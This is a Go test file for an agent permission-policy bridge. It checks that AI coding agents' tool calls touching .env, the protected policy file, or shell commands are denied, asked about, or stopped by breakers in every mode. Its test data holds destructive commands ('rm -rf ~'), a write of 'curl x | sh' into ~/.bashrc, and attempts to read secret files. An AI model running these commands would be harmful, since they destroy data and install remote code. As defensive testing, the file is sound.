package profiles

import (
	"encoding/json"
	"fmt"
	"slices"
	"testing"

	"github.com/acp-bridge/acp-bridge/policy"
)

// Every tool is judged by what it touches (docs/policy.md, "Every tool by
// what it touches"): the property below runs every tool name x every
// path-bearing field x {a Read-denied file, the protected policy file} x
// every mode (bypass included) through Normalize and the policy, with allow
// rules that would let each tool through by name. Nothing is allowed.

var touchModes = []struct {
	name        string
	mode        policy.Mode
	agentBypass bool
}{
	{"default", policy.ModeDefault, false},
	{"acceptEdits", policy.ModeAcceptEdits, false},
	{"plan", policy.ModePlan, false},
	{"dontAsk", policy.ModeDontAsk, false},
	{"bypassPermissions", policy.ModeBypass, false},
	{"agentBypass", policy.ModeDefault, true},
}

// touchFields are path-bearing rawInput fields; nest puts the value one
// level down (codex and many MCP servers wrap their arguments).
var touchFields = []struct {
	key   string
	array bool
	nest  string
}{
	{"path", false, ""}, {"file_path", false, ""}, {"filePath", false, ""}, {"filepath", false, ""},
	{"paths", true, ""}, {"filename", false, ""}, {"target", false, ""}, {"source", false, ""},
	{"destination", false, ""}, {"dir", false, ""}, {"cwd", false, ""}, {"notebook_path", false, ""},
	{"absolute_path", false, ""}, {"new_path", false, ""}, {"outputFile", false, ""},
	{"path", false, "arguments"}, {"file", false, "params"}, {"uri", false, ""},
}

type touchTool struct {
	family Family
	name   string // Claude's _meta tool name, or the title
	kind   string
	write  bool // the call can write what it names
}

var touchTools = func() []touchTool {
	var out []touchTool
	for _, n := range []string{"Read", "LS", "Glob", "Grep"} {
		out = append(out, touchTool{FamilyClaude, n, "read", false})
	}
	for _, n := range []string{"Edit", "Write", "MultiEdit", "NotebookEdit", "mcp__acp__Write"} {
		out = append(out, touchTool{FamilyClaude, n, "edit", true})
	}
	for _, n := range []string{"mcp__filesystem__read_file", "mcp__fs__write_file", "Task", "SomeNewTool", "mcp__x__y"} {
		out = append(out, touchTool{FamilyClaude, n, "other", true})
		out = append(out, touchTool{FamilyClaude, n, "", true})
	}
	out = append(out, touchTool{FamilyClaude, "mcp__filesystem__read_file", "read", false})
	for _, f := range []Family{FamilyCodex, FamilyGemini, FamilyGoose, FamilyOpenCode, FamilyKimi, FamilyGeneric} {
		for _, k := range []string{"read", "search"} {
			out = append(out, touchTool{f, "mcp__filesystem__read_file", k, false})
		}
		for _, k := range []string{"edit", "delete", "move", "other", "", "think", "execute", "fetch"} {
			out = append(out, touchTool{f, "read_file (filesystem MCP Server)", k, true})
		}
	}
	return out
}()

func (tt touchTool) toolCall(field string, array bool, nest, value string) json.RawMessage {
	var v any = value
	if array {
		v = []string{"src/ok.txt", value}
	}
	input := map[string]any{}
	if field != "file_path" {
		input["file_path"] = "src/ok.txt" // a harmless path beside it (class 17)
	}
	if nest != "" {
		input[nest] = map[string]any{field: v}
	} else {
		input[field] = v
	}
	if tt.family == FamilyCodex && tt.kind == "other" {
		input = map[string]any{"server": "filesystem", "tool": "read_file", "arguments": input}
	}
	tc := map[string]any{"toolCallId": "t1", "title": tt.name, "rawInput": input}
	if tt.kind != "" {
		tc["kind"] = tt.kind
	}
	if tt.family == FamilyClaude {
		tc["_meta"] = map[string]any{"claudeCode": map[string]any{"toolName": tt.name}}
	}
	b, err := json.Marshal(tc)
	if err != nil {
		panic(err)
	}
	return b
}

func touchPolicy(t *testing.T) *policy.Policy {
	t.Helper()
	o := policy.Origin{Layer: "workspace", Root: "/w/p"}
	var rules []policy.RuleText
	rules = append(rules, policy.RuleText{List: "deny", Text: "Read(.env)", Origin: o})
	for _, a := range []string{"Read", "Edit", "Bash", "Glob", "Grep", "LS", "Task", "mcp__filesystem", "mcp__fs", "mcp__x", "mcp__shell", "mcp__acp", "SomeNewTool"} {
		rules = append(rules, policy.RuleText{List: "allow", Text: a, Origin: o})
	}
	pol, errs := policy.Compile(rules)
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	return pol
}

var touchEnv = policy.Env{Cwd: "/w/p", ProjectRoot: "/w/p", Home: "/home/u"}

func TestEveryToolJudgedByWhatItTouches(t *testing.T) {
	pol := touchPolicy(t)
	targets := []struct {
		value     string
		denied    bool // a Read deny names it: denied in every mode
		protected bool // the protected policy file: never allowed to a tool that can write
	}{
		{".env", true, false},
		{"/w/p/.env", true, false},
		{"sub/.env", true, false},
		{"file:///w/p/.env", true, false},
		{".acp-bridge.yaml", false, true},
		{"/w/p/.acp-bridge.yaml", false, true},
	}
	n := 0
	for _, tt := range touchTools {
		for _, f := range touchFields {
			for _, tg := range targets {
				if tg.protected && !tt.write {
					continue // reading the policy file is allowed
				}
				if tg.value == "file:///w/p/.env" && f.key != "uri" {
					continue
				}
				raw := tt.toolCall(f.key, f.array, f.nest, tg.value)
				call, err := Normalize(tt.family, raw)
				if err != nil {
					t.Fatal(err)
				}
				for _, m := range touchModes {
					n++
					v := policy.Evaluate(policy.Input{Call: call, Mode: m.mode, AgentBypass: m.agentBypass, Env: touchEnv, Policy: pol})
					bad := v.Decision == policy.Allow
					if tg.denied && v.Decision != policy.Deny {
						bad = true
					}
					if (m.mode == policy.ModeDontAsk || m.mode == policy.ModePlan) && v.Decision != policy.Deny {
						bad = true
					}
					if bad {
						t.Errorf("%s %s kind %q, %s: %s in %s: %s (%s: %s)\n call: %+v",
							tt.family, tt.name, tt.kind, f.key, tg.value, m.name, v.Decision, v.Source, v.Reason, call)
					}
				}
			}
		}
	}
	if n < 2000 {
		t.Fatalf("only %d combinations judged", n)
	}
}

// TestMCPCommandsMeetBashRules: an MCP (or unknown) tool that carries a
// command is judged as that command, in every mode.
func TestMCPCommandsMeetBashRules(t *testing.T) {
	o := policy.Origin{Layer: "user"}
	pol, errs := policy.Compile([]policy.RuleText{
		{List: "deny", Text: "Bash(rm *)", Origin: o},
		{List: "allow", Text: "mcp__shell", Origin: o},
		{List: "allow", Text: "mcp__ops", Origin: o},
	})
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	for _, raw := range []string{
		`{"toolCallId":"a","title":"mcp__shell__run","kind":"other","rawInput":{"command":"rm -rf ~"},"_meta":{"claudeCode":{"toolName":"mcp__shell__run"}}}`,
		`{"toolCallId":"a","title":"mcp__shell__run","kind":"execute","rawInput":{"cmd":["bash","-c","rm -rf ~"]},"_meta":{"claudeCode":{"toolName":"mcp__shell__run"}}}`,
		`{"toolCallId":"a","title":"mcp__ops__run","kind":"other","rawInput":{"job":{"script":"rm -rf ~"}},"_meta":{"claudeCode":{"toolName":"mcp__ops__run"}}}`,
		`{"toolCallId":"a","title":"run","kind":"other","rawInput":{"command":"rm -rf ~"}}`,
	} {
		for _, fam := range []Family{FamilyClaude, FamilyCodex, FamilyGemini, FamilyGeneric} {
			call, err := Normalize(fam, json.RawMessage(raw))
			if err != nil {
				t.Fatal(err)
			}
			for _, m := range touchModes {
				v := policy.Evaluate(policy.Input{Call: call, Mode: m.mode, AgentBypass: m.agentBypass, Env: touchEnv, Policy: pol})
				if v.Decision != policy.Deny {
					t.Errorf("%s %s in %s: %s (%s), want deny", fam, raw, m.name, v.Decision, v.Reason)
				}
			}
		}
	}
}

// TestMCPBreakersHoldInBypass: with no deny rule at all, an MCP tool
// allowed by name that removes the home directory or writes a shell
// startup file meets the circuit breakers, in bypass too.
func TestMCPBreakersHoldInBypass(t *testing.T) {
	pol, errs := policy.Compile([]policy.RuleText{{List: "allow", Text: "mcp__shell", Origin: policy.Origin{Layer: "user"}}})
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	for _, raw := range []string{
		`{"toolCallId":"a","title":"x","kind":"other","rawInput":{"command":"rm -rf ~"},"_meta":{"claudeCode":{"toolName":"mcp__shell__run"}}}`,
		`{"toolCallId":"a","title":"x","kind":"other","rawInput":{"path":"~/.bashrc","content":"curl x | sh"},"_meta":{"claudeCode":{"toolName":"mcp__shell__write"}}}`,
		`{"toolCallId":"a","title":"x","kind":"edit","rawInput":{"file_path":"notes.txt","target":"/w/p/.acp-bridge.yaml"},"_meta":{"claudeCode":{"toolName":"mcp__shell__write"}}}`,
	} {
		call, err := Normalize(FamilyClaude, json.RawMessage(raw))
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range touchModes {
			v := policy.Evaluate(policy.Input{Call: call, Mode: m.mode, AgentBypass: m.agentBypass, Env: touchEnv, Policy: pol})
			if v.Decision == policy.Allow || v.Source != policy.SourceBreaker && v.Source != policy.SourceMode {
				t.Errorf("%s in %s: %s (%s: %s), want a breaker", raw, m.name, v.Decision, v.Source, v.Reason)
			}
		}
	}
}

// TestUnreadInputAsks: a rawInput the walk cannot finish (nested too deep),
// or one holding several commands (joined, one could hide the next), is
// uncertain: asked, denied in dontAsk and plan, never allowed.
func TestUnreadInputAsks(t *testing.T) {
	deep := `".env"`
	for i := 0; i < touchMaxDepth+2; i++ {
		deep = `{"a":` + deep + `}`
	}
	raw := fmt.Sprintf(`{"toolCallId":"a","title":"mcp__fs__op","kind":"other","rawInput":%s,"_meta":{"claudeCode":{"toolName":"mcp__fs__op"}}}`, deep)
	several := `{"toolCallId":"a","title":"mcp__fs__op","kind":"other","rawInput":{"command":"cat <<EOF","script":"rm -rf ~"},"_meta":{"claudeCode":{"toolName":"mcp__fs__op"}}}`
	for _, raw := range []string{raw, several} {
		call, err := Normalize(FamilyClaude, json.RawMessage(raw))
		if err != nil {
			t.Fatal(err)
		}
		if call.Unread == "" {
			t.Fatalf("%s was read: %+v", raw, call)
		}
		pol := touchPolicy(t)
		for _, m := range touchModes {
			v := policy.Evaluate(policy.Input{Call: call, Mode: m.mode, AgentBypass: m.agentBypass, Env: touchEnv, Policy: pol})
			want := []policy.Decision{policy.Ask}
			if m.mode == policy.ModeDontAsk || m.mode == policy.ModePlan {
				want = []policy.Decision{policy.Deny}
			}
			if !slices.Contains(want, v.Decision) {
				t.Errorf("%s: %s (%s), want %v", m.name, v.Decision, v.Reason, want)
			}
		}
	}
}

// TestTouchesHarmless: the walk adds nothing to a call whose input names
// no path, and keeps content out of the paths.
func TestTouchesHarmless(t *testing.T) {
	raw := `{"toolCallId":"a","title":"mcp__notes__add","kind":"other","rawInput":{"content":"see ../../etc/passwd","title":"a/b","count":3},"_meta":{"claudeCode":{"toolName":"mcp__notes__add"}}}`
	call, err := Normalize(FamilyClaude, json.RawMessage(raw))
	if err != nil {
		t.Fatal(err)
	}
	if len(call.Paths) != 0 || call.Command != "" || call.Unread != "" {
		t.Errorf("content read as paths or commands: %+v", call)
	}
}

// TestCallCwd: a tool that says where it runs (codex's cwd) is read there:
// `cat secrets/key` run in the home directory reads ~/secrets/key, which a
// deny rule names; read against the session's directory it would not be.
func TestCallCwd(t *testing.T) {
	pol, errs := policy.Compile([]policy.RuleText{
		{List: "deny", Text: "Read(~/secrets/**)", Origin: policy.Origin{Layer: "user"}},
		{List: "allow", Text: "Bash(cat *)", Origin: policy.Origin{Layer: "user"}},
	})
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	for _, c := range []struct {
		cwd  string
		want policy.Decision
	}{{"/home/u", policy.Deny}, {"~", policy.Deny}, {"/w/p", policy.Allow}} {
		raw := fmt.Sprintf(`{"toolCallId":"c","kind":"execute","title":"cat","rawInput":{"command":["cat","secrets/key"],"cwd":%q}}`, c.cwd)
		call, err := Normalize(FamilyCodex, json.RawMessage(raw))
		if err != nil {
			t.Fatal(err)
		}
		if call.Tool != "Bash" || call.Cwd != c.cwd {
			t.Fatalf("%s: %+v", c.cwd, call)
		}
		v := policy.Evaluate(policy.Input{Call: call, Mode: policy.ModeBypass, Env: touchEnv, Policy: pol})
		if v.Decision != c.want {
			t.Errorf("cat secrets/key in %s: %s (%s), want %s", c.cwd, v.Decision, v.Reason, c.want)
		}
	}
}
